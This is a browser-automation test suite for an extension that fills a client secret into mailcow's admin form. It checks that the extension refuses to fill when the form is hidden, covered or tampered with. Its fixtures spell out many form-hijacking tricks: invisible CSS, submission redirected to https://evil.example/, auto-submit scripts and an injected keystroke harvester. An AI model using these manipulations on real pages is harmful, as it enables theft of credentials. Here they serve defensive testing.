/**
 * The client secret is filled in only where the administrator can see it, and only in a form that is as mailcow makes it. Each way to
 * hide or change the form is a step of its own.
 */

import assert from "node:assert/strict";
import { join } from "node:path";

import type { JSHandle, Page } from "puppeteer-core";

import * as actions from "./harness/actions.ts";
import { copyExtension, hurry } from "./harness/copy.ts";
import { environment } from "./harness/environment.ts";
import { FORM, isRefused, prepared, SECRET_FIELD, values } from "./harness/form.ts";
import { journey } from "./harness/journey.ts";
import { finding, text } from "./harness/messages.ts";
import { launch } from "./harness/stage.ts";
import { Traffic } from "./harness/traffic.ts";
import { mailcowState } from "./harness/witness.ts";

/** Ways to hide an element, as CSS declarations (case S12). */
const HIDDEN: Record<string, string> = {
  "not displayed": "display: none",
  invisible: "visibility: hidden",
  "without size": "width: 0; height: 0; min-width: 0; padding: 0; border: 0; overflow: hidden; flex: none",
  transparent: "opacity: 0",
  "beside the page": "position: absolute; left: -9999px",
  "clipped away": "clip-path: inset(100%)",
  "filtered away": "filter: opacity(0)",
  masked: "mask-image: linear-gradient(transparent, transparent)",
  shrunk: "transform: scale(0.001)",
  "nearly transparent": "opacity: 0.01",
  "edge on": "transform: rotateY(90deg)",
  "above the window": "position: fixed; top: -4000px",
  "beyond the right edge": "position: fixed; left: 20000px",
  "beyond the lower edge": "position: fixed; top: 90000px",
  "too narrow": "width: 4px; min-width: 0; padding: 0; border: 0; overflow: hidden; flex: none",
  "too low": "height: 4px; min-height: 0; padding: 0; border: 0; overflow: hidden; flex: none",
  "cut away": "position: absolute; clip: rect(0 0 0 0)",
  "blended with what is behind it": "mix-blend-mode: screen",
  // A property of Chromium.
  ...(environment.browser() === "chromium" && {
    "masked by a box image": "-webkit-mask-box-image: linear-gradient(transparent, transparent)",
  }),
};

/** Points of a field, as parts of its width and height, of which none may be covered. */
const POINTS = [
  [0.5, 0.5],
  [0.25, 0.25],
  [0.75, 0.25],
  [0.25, 0.75],
  [0.75, 0.75],
] as const;

/** Types of input that are typed into, and that mailcow's form does not have. */
const OTHER_TYPES = ["search", "number", "email", "tel"];

/** Ways to keep what is in sight from being what is clicked on. */
const NOT_REACHED: Record<string, string> = {
  "turned away": "transform: rotateY(180deg); backface-visibility: hidden",
  "not to be clicked on": "pointer-events: none",
};

/** Ways to change the form; each returns what takes it back (case S12). */
const CHANGED: Record<string, { does: (form: string) => () => void; code: string }> = {
  "an element covers the page": {
    does: () => {
      const cover = document.createElement("div");
      cover.style.cssText = "position: fixed; inset: 0; z-index: 9; background: white";
      document.body.append(cover);
      return () => cover.remove();
    },
    code: "form_covered",
  },
  "a second form in front": {
    does: (form) => {
      const copy = document.createElement("form");
      copy.dataset["id"] = "iam_generic";
      document.body.prepend(copy);
      return () => document.querySelector(form)?.remove();
    },
    code: "form_ambiguous",
  },
  "a second field of the name": {
    does: (form) => {
      const field = document.createElement("input");
      field.name = "client_secret";
      document.querySelector(form)?.prepend(field);
      return () => field.remove();
    },
    code: "form_ambiguous",
  },
  "a checkbox of the name": {
    does: (form) => {
      const field = document.querySelector<HTMLInputElement>(`${form} [name="client_secret"]`);
      if (field) field.type = "checkbox";
      return () => field?.setAttribute("type", "password");
    },
    code: "form_ambiguous",
  },
  "a second field of the name, which belongs to another form": {
    does: (form) => {
      const field = document.createElement("input");
      field.name = "client_secret";
      field.setAttribute("form", "another");
      document.querySelector(form)?.prepend(field);
      return () => field.remove();
    },
    code: "form_ambiguous",
  },
  "a list in place of the field": {
    does: (form) => {
      const field = document.querySelector(`${form} [name="client_secret"]`);
      const list = document.createElement("select");
      list.name = "client_secret";
      field?.replaceWith(list);
      return () => field && list.replaceWith(field);
    },
    code: "form_not_done",
  },
  "a list disabled": {
    does: (form) => {
      const list = document.querySelector(`${form} [name="default_template"]`);
      list?.setAttribute("disabled", "");
      return () => list?.removeAttribute("disabled");
    },
    code: "form_ambiguous",
  },
  "a checkbox disabled": {
    does: (form) => {
      const box = document.querySelector(`${form} [name="ignore_ssl_error"][type="checkbox"]`);
      box?.setAttribute("disabled", "");
      return () => box?.removeAttribute("disabled");
    },
    code: "form_ambiguous",
  },
  "a checkbox hidden": {
    does: (form) => {
      const box = document.querySelector<HTMLElement>(`${form} [name="ignore_ssl_error"][type="checkbox"]`);
      box?.style.setProperty("opacity", "0");
      return () => box?.style.removeProperty("opacity");
    },
    code: "form_hidden",
  },
  "a text in place of a checkbox": {
    does: (form) => {
      const box = document.querySelector(`${form} [name="ignore_ssl_error"][type="checkbox"]`);
      box?.setAttribute("type", "text");
      return () => box?.setAttribute("type", "checkbox");
    },
    code: "form_ambiguous",
  },
  "the field belongs to another form": {
    does: (form) => {
      const field = document.querySelector(`${form} [name="client_secret"]`);
      field?.setAttribute("form", "another");
      return () => field?.removeAttribute("form");
    },
    code: "form_field_missing",
  },
  "it is sent to another host": {
    does: (form) => {
      const element = document.querySelector(form);
      element?.setAttribute("action", "https://evil.example/");
      return () => element?.removeAttribute("action");
    },
    code: "form_elsewhere",
  },
  "it is sent to another host, and a control is named “action”": {
    does: (form) => {
      const element = document.querySelector(form);
      const control = document.createElement("input");
      control.type = "hidden";
      control.name = "action";
      element?.append(control);
      element?.setAttribute("action", "https://evil.example/");
      return () => {
        control.remove();
        element?.removeAttribute("action");
      };
    },
    code: "form_elsewhere",
  },
  "a button sends it to another host": {
    does: (form) => {
      const button = document.querySelector(`${form} [data-action="edit_selected"]`);
      button?.setAttribute("formaction", "https://evil.example/");
      return () => button?.removeAttribute("formaction");
    },
    code: "form_elsewhere",
  },
  "it is sent in the address": {
    does: (form) => {
      const element = document.querySelector(form);
      element?.setAttribute("method", "get");
      return () => element?.setAttribute("method", "post");
    },
    code: "form_elsewhere",
  },
  "it is sent by a method that only resembles POST, for which browsers take GET": {
    does: (form) => {
      const element = document.querySelector(form);
      element?.setAttribute("method", " post");
      return () => element?.setAttribute("method", "post");
    },
    code: "form_elsewhere",
  },
  "it is sent into another window": {
    does: (form) => {
      const element = document.querySelector(form);
      element?.setAttribute("target", "another");
      return () => element?.removeAttribute("target");
    },
    code: "form_elsewhere",
  },
  "it is sent to an address that the page bases on another host": {
    does: (form) => {
      const element = document.querySelector(form);
      const base = document.createElement("base");
      base.href = "https://evil.example/";
      document.head.append(base);
      element?.setAttribute("action", "save");
      return () => {
        base.remove();
        element?.removeAttribute("action");
      };
    },
    code: "form_elsewhere",
  },
  "a button sends it into another window": {
    does: (form) => {
      const button = document.querySelector(`${form} [data-action="edit_selected"]`);
      button?.setAttribute("formtarget", "another");
      return () => button?.removeAttribute("formtarget");
    },
    code: "form_elsewhere",
  },
  "a button sends it in the address": {
    does: (form) => {
      const button = document.querySelector(`${form} [data-action="edit_selected"]`);
      button?.setAttribute("formmethod", "get");
      return () => button?.removeAttribute("formmethod");
    },
    code: "form_elsewhere",
  },
  "a button outside it sends it to another host": {
    does: (form) => {
      const element = document.querySelector(form);
      const button = document.createElement("button");
      if (element) element.id = "outside";
      button.setAttribute("form", "outside");
      button.setAttribute("formaction", "https://evil.example/");
      document.body.append(button);
      return () => {
        button.remove();
        element?.removeAttribute("id");
      };
    },
    code: "form_elsewhere",
  },
  "an image sends it to another host": {
    does: (form) => {
      const image = document.createElement("input");
      image.type = "image";
      image.setAttribute("formaction", "https://evil.example/");
      document.querySelector(form)?.append(image);
      return () => image.remove();
    },
    code: "form_elsewhere",
  },
  "a name of a megabyte": {
    does: (form) => {
      const field = document.createElement("input");
      field.name = "x".repeat(1024 * 1024);
      document.querySelector(form)?.append(field);
      return () => field.remove();
    },
    code: "form_too_large",
  },
  "templates of a megabyte": {
    does: (form) => {
      const option = new Option("", "x".repeat(1024 * 1024));
      document.querySelector(`${form} [name="default_template"]`)?.append(option);
      return () => option.remove();
    },
    code: "form_too_large",
  },
  "2,000 templates": {
    does: (form) => {
      const options = Array.from({ length: 2_000 }, (_, index) => new Option("", `${index}`));
      document.querySelector(`${form} [name="default_template"]`)?.append(...options);
      return () => {
        for (const option of options) option.remove();
      };
    },
    code: "form_too_large",
  },
  "2,000 lists of a name, which belong to another form": {
    does: (form) => {
      const element = document.querySelector(form);
      const lists = document.createElement("div");
      for (let count = 0; count < 2_000; count += 1) {
        const list = document.createElement("select");
        list.name = "templates";
        list.setAttribute("form", "another");
        lists.append(list);
      }
      element?.append(lists);
      return () => lists.remove();
    },
    code: "form_too_large",
  },
  "a value of a megabyte": {
    does: (form) => {
      const field = document.querySelector<HTMLInputElement>(`${form} [name="authorize_url"]`);
      if (field) field.value = "x".repeat(1024 * 1024);
      return () => {
        if (field) field.value = "";
      };
    },
    code: "form_too_large",
  },
  "the form in closed details": {
    does: (form) => {
      const element = document.querySelector(form);
      const details = document.createElement("details");
      element?.replaceWith(details);
      if (element) details.append(element);
      return () => element && details.replaceWith(element);
    },
    code: "form_hidden",
  },
  "the form in what is not rendered": {
    does: (form) => {
      const parent = document.querySelector<HTMLElement>(form)?.parentElement;
      parent?.style.setProperty("content-visibility", "hidden");
      return () => parent?.style.removeProperty("content-visibility");
    },
    code: "form_hidden",
  },
  "the form in an open shadow root": {
    does: (form) => {
      const element = document.querySelector(form);
      const host = document.createElement("div");
      element?.replaceWith(host);
      if (element) host.attachShadow({ mode: "open" }).append(element);
      return () => element && host.replaceWith(element);
    },
    code: "form_missing",
  },
  "the field in an open shadow root": {
    does: (form) => {
      const field = document.querySelector(`${form} [name="client_secret"]`);
      const host = document.createElement("div");
      field?.replaceWith(host);
      if (field) host.attachShadow({ mode: "open" }).append(field);
      return () => field && host.replaceWith(field);
    },
    code: "form_field_missing",
  },
  "the form shown through a closed shadow root, which masks it": {
    does: (form) => {
      const element = document.querySelector(form);
      const host = document.createElement("div");
      element?.replaceWith(host);
      if (element) host.append(element);
      const mask = document.createElement("div");
      mask.style.maskImage = "linear-gradient(transparent, transparent)";
      mask.append(document.createElement("slot"));
      host.attachShadow({ mode: "closed" }).append(mask);
      return () => element && host.replaceWith(element);
    },
    code: "form_hidden",
  },
  "the form in a frame of the page": {
    does: (form) => {
      const element = document.querySelector(form);
      const frame = document.createElement("iframe");
      frame.style.cssText = "width: 900px; height: 900px";
      element?.replaceWith(frame);
      if (element) frame.contentDocument?.body.append(element);
      return () => element && frame.replaceWith(document.adoptNode(element));
    },
    code: "form_missing",
  },
  "the field cut off by a parent without size": {
    does: (form) => {
      const field = document.querySelector<HTMLElement>(`${form} [name="client_secret"]`);
      const parent = document.createElement("span");
      parent.style.cssText = "display: block; overflow: hidden; width: 1px; height: 1px";
      field?.replaceWith(parent);
      if (field) parent.append(field);
      field?.style.setProperty("min-width", "200px");
      return () => {
        if (field) parent.replaceWith(field);
        field?.style.removeProperty("min-width");
      };
    },
    code: "form_covered",
  },
  "the field scrolled out of a parent": {
    does: (form) => {
      const field = document.querySelector<HTMLElement>(`${form} [name="client_secret"]`);
      const parent = document.createElement("span");
      parent.style.cssText = "display: block; overflow: clip; height: 40px";
      field?.replaceWith(parent);
      if (field) parent.append(field);
      field?.style.setProperty("margin-top", "100px");
      return () => {
        if (field) parent.replaceWith(field);
        field?.style.removeProperty("margin-top");
      };
    },
    code: "form_covered",
  },
  "the form inert": {
    does: (form) => {
      const element = document.querySelector(form);
      element?.setAttribute("inert", "");
      return () => element?.removeAttribute("inert");
    },
    code: "form_covered",
  },
  "the field read-only": {
    does: (form) => {
      const field = document.querySelector(`${form} [name="client_secret"]`);
      field?.setAttribute("readonly", "");
      return () => field?.removeAttribute("readonly");
    },
    code: "form_ambiguous",
  },
  "the field disabled": {
    does: (form) => {
      const field = document.querySelector(`${form} [name="client_secret"]`);
      field?.setAttribute("disabled", "");
      return () => field?.removeAttribute("disabled");
    },
    code: "form_ambiguous",
  },
  "all fields disabled by what they lie in": {
    does: (form) => {
      const element = document.querySelector(form);
      const set = document.createElement("fieldset");
      set.disabled = true;
      set.append(...(element?.childNodes ?? []));
      element?.append(set);
      return () => set.replaceWith(...set.childNodes);
    },
    code: "form_ambiguous",
  },
  "the button that shows the form does nothing": {
    does: () => {
      const stop = (event: Event): void => event.stopImmediatePropagation();
      const pane = document.querySelector("#tab-config-identity-provider");
      pane?.classList.remove("active", "show");
      addEventListener("click", stop, true);
      return () => {
        removeEventListener("click", stop, true);
        pane?.classList.add("active", "show");
      };
    },
    code: "form_hidden",
  },
  "a button that removes a row has lost its script, so that it would send the form": {
    does: (form) => {
      const stop = (event: Event): void => event.stopImmediatePropagation();
      const row = document.querySelector(`${form} .list-row [name="redirect_url_extra"]`)?.closest(".list-row");
      const more = row?.cloneNode(true) as HTMLElement | undefined;
      if (more) row?.after(more);
      for (const button of more?.querySelectorAll("button") ?? []) button.type = "submit";
      addEventListener("click", stop, true);
      return () => {
        removeEventListener("click", stop, true);
        more?.remove();
      };
    },
    code: "form_not_done",
  },
  "the field replaced by a hidden one once a value was entered": {
    does: (form) => {
      const element = document.querySelector(form);
      const field = document.querySelector(`${form} [name="client_secret"]`);
      const other = field?.cloneNode() as HTMLElement;
      other.style.opacity = "0";
      const observer = new MutationObserver(() => field?.replaceWith(other));
      if (element) observer.observe(element, { attributes: true });
      element?.addEventListener("input", () => element.setAttribute("data-seen", ""), { once: true });
      return () => {
        observer.disconnect();
        if (field) other.replaceWith(field);
      };
    },
    code: "form_hidden",
  },
};

/**
 * Ways to send the form when the last text is entered, and all that is required is in it. Each returns a function that ends it, and says
 * whether the form can be sent again.
 */
const SENT: Record<string, (form: string) => () => boolean> = {
  "a script of the page sends it": (form) => {
    const element = document.querySelector<HTMLFormElement>(form);
    const end = new AbortController();
    element
      ?.querySelector('[name="client_scopes"]')
      ?.addEventListener("input", () => element.requestSubmit(), { signal: end.signal });
    return () => {
      end.abort();
      let sent = false;
      const stop = (event: Event): void => {
        event.preventDefault();
        sent = true;
      };
      element?.addEventListener("submit", stop, { once: true });
      element?.requestSubmit();
      return sent;
    };
  },
  "a script of the page sends it by itself when its button is clicked on": (form) => {
    const element = document.querySelector<HTMLFormElement>(form);
    const end = new AbortController();
    const button = document.createElement("button");
    element?.append(button);
    element
      ?.querySelector('[name="client_scopes"]')
      ?.addEventListener("input", () => button.click(), { signal: end.signal });
    let sent = 0;
    const send = (event: Event): void => {
      event.preventDefault();
      sent += 1;
    };
    element?.addEventListener("submit", send, { capture: true, signal: end.signal });
    return () => {
      const before = sent;
      button.click();
      button.remove();
      end.abort();
      return before === 0 && sent === 1;
    };
  },
};

/** Changes that are made once a value was entered, with what is said then. */
const LATER: Record<string, { does: (form: string) => () => void; code: string; afterSecret?: true }> = {
  "the field is hidden": {
    does: (form) => {
      const field = document.querySelector<HTMLElement>(`${form} [name="client_secret"]`);
      field?.style.setProperty("opacity", "0");
      return () => field?.style.removeProperty("opacity");
    },
    code: "form_hidden",
  },
  "the field is removed": {
    does: (form) => {
      const field = document.querySelector(`${form} [name="client_secret"]`);
      const place = document.createComment("");
      field?.replaceWith(place);
      return () => field && place.replaceWith(field);
    },
    code: "form_not_done",
  },
  "the field gives way to an element that only has its name": {
    does: (form) => {
      const field = document.querySelector(`${form} [name="client_secret"]`);
      const element = document.createElement("span");
      element.setAttribute("name", "client_secret");
      field?.replaceWith(element);
      return () => field && element.replaceWith(field);
    },
    code: "form_not_done",
  },
  "a row is added, whose field is hidden once the field before has its value": {
    does: (form) => {
      const row = document.querySelector(`${form} .list-row:has([name="mappers"])`);
      const more = row?.cloneNode(true) as HTMLElement;
      row?.after(more);
      const field = row?.querySelector<HTMLInputElement>("input");
      if (field) field.value = "another";
      const hide = (): void => more.style.setProperty("opacity", "0");
      field?.addEventListener("input", hide, { once: true });
      return () => {
        more.remove();
        field?.removeEventListener("input", hide);
        if (field) field.value = "";
      };
    },
    code: "form_hidden",
    afterSecret: true,
  },
  ...later("an element covers the page", "form_covered"),
  ...later("a second form in front", "form_ambiguous"),
  ...later("a second field of the name", "form_ambiguous"),
  ...later("a checkbox of the name", "form_ambiguous"),
  ...later("the field belongs to another form", "form_elsewhere"),
  ...later("it is sent to another host", "form_elsewhere"),
  ...later("the field read-only", "form_ambiguous"),
  ...later("the field disabled", "form_ambiguous"),
  ...later("a list disabled", "form_ambiguous", true),
  ...later("a checkbox disabled", "form_ambiguous", true),
};

/** One of the changes, to be made later. */
function later(what: string, code: string, afterSecret?: true): typeof LATER {
  const { does } = CHANGED[what] ?? assert.fail(what);
  return { [what]: { does, code, ...(afterSecret && { afterSecret }) } };
}

/** Makes a change once a value is entered; returns what takes it back. */
async function changeLater(form: Page, does: (form: string) => () => void): Promise<() => Promise<void>> {
  const change = (await form.evaluateHandle(`(${String(does)})`)) as JSHandle<typeof does>;
  const changed = await form.evaluateHandle(
    (change, form) => {
      let restore = (): void => undefined;
      const end = new AbortController();
      const start = (): void => void (restore = change(form));
      document.querySelector(form)?.addEventListener("input", start, { once: true, signal: end.signal });
      return () => {
        end.abort();
        restore();
      };
    },
    change,
    FORM,
  );
  return () => changed.evaluate((restore) => restore());
}

journey(
  "what is hidden gets no secret, what is in sight gets it, and nothing is sent before “Save changes”",
  async (step) => {
    await using impatient = await copyExtension();
    await hurry(join(impatient.folder, "page.js"), 3_000, 6);
    await using stage = await launch({ standins: { users: 20 }, extension: impatient.folder });
    const { panel, secret } = await prepared(stage);
    const form = await actions.goToMailcow(stage, panel);
    const before = await mailcowState(form);
    const traffic = Traffic.of(form);
    const style = await form.addStyleTag({ content: " " });
    const dress = (rule: string): Promise<void> =>
      style.evaluate((element, rule) => void (element.textContent = rule), rule);

    const hasNothing = async (): Promise<void> => {
      assert.ok(!(await values(form)).includes(secret));
      assert.deepEqual(traffic.writes, []);
    };

    for (const [what, selector] of Object.entries({ form: FORM, "field of the secret": SECRET_FIELD })) {
      for (const [how, declarations] of Object.entries(HIDDEN)) {
        await step(`the ${what}, ${how}`, async () => {
          await dress(`${selector} { ${declarations} }`);
          await isRefused(panel, finding("form_hidden"));
          await hasNothing();
        });
      }
    }

    for (const [how, declarations] of Object.entries(NOT_REACHED)) {
      await step(`the field of the secret, ${how}`, async () => {
        await dress(`${SECRET_FIELD} { ${declarations} }`);
        await isRefused(panel, finding("form_covered"));
        await hasNothing();
      });
    }

    await step("a field that comes after the secret, not to be clicked on", async () => {
      await dress(`${FORM} [name="client_scopes"] { pointer-events: none }`);
      await isRefused(panel, finding("form_covered"));
      await hasNothing();
    });

    await step("nothing is clicked on in a form whose field is hidden", async () => {
      const row = await form.evaluateHandle((form) => {
        const row = document.querySelector(`${form} .list-row:has([name="redirect_url_extra"])`);
        const more = row?.cloneNode(true) as HTMLElement;
        row?.after(more);
        return more;
      }, FORM);
      await dress(`${SECRET_FIELD} { opacity: 0 }`);
      await isRefused(panel, finding("form_hidden"));
      assert.ok(await row.evaluate((row) => row.isConnected));
      await row.evaluate((row) => row.remove());
      await dress("");
    });

    await step("form and field, each of them more opaque than not", async () => {
      await dress(`${FORM}, ${SECRET_FIELD} { opacity: 0.6 }`);
      await isRefused(panel, finding("form_hidden"));
      await hasNothing();
      await dress("");
    });

    await step("the field of the secret, covered at one point", async () => {
      for (const [x, y] of POINTS) {
        await form.$eval(
          SECRET_FIELD,
          (field, x, y) => {
            const { left, top, width, height } = field.getBoundingClientRect();
            const cover = document.createElement("div");
            cover.style.cssText = "position: absolute; width: 4px; height: 4px; z-index: 9; background: white";
            cover.style.left = `${left + x * width + scrollX - 2}px`;
            cover.style.top = `${top + y * height + scrollY - 2}px`;
            document.body.append(cover);
          },
          x,
          y,
        );
        await isRefused(panel, finding("form_covered"));
        await hasNothing();
        await form.evaluate(() => document.body.lastElementChild?.remove());
      }
    });

    await step("a field of another type", async () => {
      for (const type of OTHER_TYPES) {
        await form.$eval(SECRET_FIELD, (field, type) => field.setAttribute("type", type), type);
        await isRefused(panel, finding("form_ambiguous"));
        await hasNothing();
      }
      await form.$eval(SECRET_FIELD, (field) => field.setAttribute("type", "password"));
    });

    /** Empties the text fields: what is in the form already would not be entered again. */
    const empty = (): Promise<void> =>
      form.$$eval(`${FORM} input:is([type="text"], [type="url"], [type="password"])`, (fields) => {
        for (const field of fields) field.value = "";
      });

    for (const [how, { does, code }] of Object.entries(CHANGED)) {
      await step(how, async () => {
        await empty();
        const changed = await form.evaluateHandle(does, FORM);
        await isRefused(panel, finding(code));
        await hasNothing();
        await changed.evaluate((restore) => void restore());
      });
    }

    for (const [how, { does, code, afterSecret }] of Object.entries(LATER)) {
      await step(`once a value was entered: ${how}`, async () => {
        await empty();
        const restore = await changeLater(form, does);
        await isRefused(panel, finding(code));
        if (afterSecret) assert.deepEqual(traffic.writes, []);
        else await hasNothing();
        await restore();
      });
    }

    for (const [how, press] of Object.entries(SENT)) {
      await step(`the form is complete, and ${how} once the last value was entered`, async () => {
        await empty();
        const pressed = await form.evaluateHandle(press, FORM);
        await actions.fillForm(panel);
        assert.ok((await values(form)).includes(secret));
        assert.ok(await pressed.evaluate((end) => end()), "the form is sent again afterwards");
        assert.deepEqual(traffic.writes, []);
        await form.reload();
        await stage.clickToolbarAgain(form);
      });
    }

    await step(
      "another page of mailcow with the same form, on the way to the right one and instead of it",
      async () => {
        const elsewhere = `${stage.installation.origins.mailcow}/admin/dashboard`;
        const copy = await form.$eval(FORM, (form) => form.outerHTML);
        await form.evaluateOnNewDocument((copy) => {
          addEventListener("DOMContentLoaded", () => {
            if (location.pathname !== "/admin/dashboard") return;
            document.body.insertAdjacentHTML("afterbegin", copy);
            document.body.addEventListener("input", ({ target }) =>
              localStorage.setItem(
                "harvest",
                `${localStorage.getItem("harvest") ?? ""} ${(target as HTMLInputElement).value}`,
              ),
            );
          });
        }, copy);
        await form.goto(elsewhere);
        await stage.clickToolbarAgain(form);
        await panel.press(text("mailcow_fill"));
        await form.waitForFunction(() => location.pathname === "/admin/system" && document.readyState === "complete");
        await stage.clickToolbarAgain(form);
        await panel.says(text("mailcow_not_saved"));
        assert.ok((await values(form)).includes(secret));

        await form.reload();
        await stage.clickToolbarAgain(form);
        await form.addStyleTag({ content: `${FORM} { display: none }` });
        await panel.press(text("mailcow_fill"));
        await panel.says(text("mailcow_filling"));
        await form.goto(elsewhere);
        await stage.clickToolbarAgain(form);
        await panel.named("button", text("mailcow_fill"));
        assert.ok((await form.$$(FORM)).length > 0, "the other page has such a form");
        assert.ok(!(await values(form)).includes(secret));
        assert.equal(await form.evaluate(() => localStorage.getItem("harvest")), null);
      },
    );

    await step(
      "a window of 320 px is no obstacle; nothing was sent so far, and mailcow’s own button sends it",
      async () => {
        await form.setViewport({ width: 320, height: 480 });
        await panel.press(text("mailcow_fill"));
        await form.waitForFunction(() => location.pathname === "/admin/system" && document.readyState === "complete");
        await stage.clickToolbarAgain(form);
        await panel.says(text("mailcow_not_saved"));
        assert.deepEqual(traffic.writes, []);
        assert.deepEqual(await mailcowState(form), before);
        await actions.pressSave(stage, form);
        await panel.says(text("mailcow_saved"));
        assert.equal((await mailcowState(form)).identityProvider["client_secret"], secret);
      },
    );
  },
);
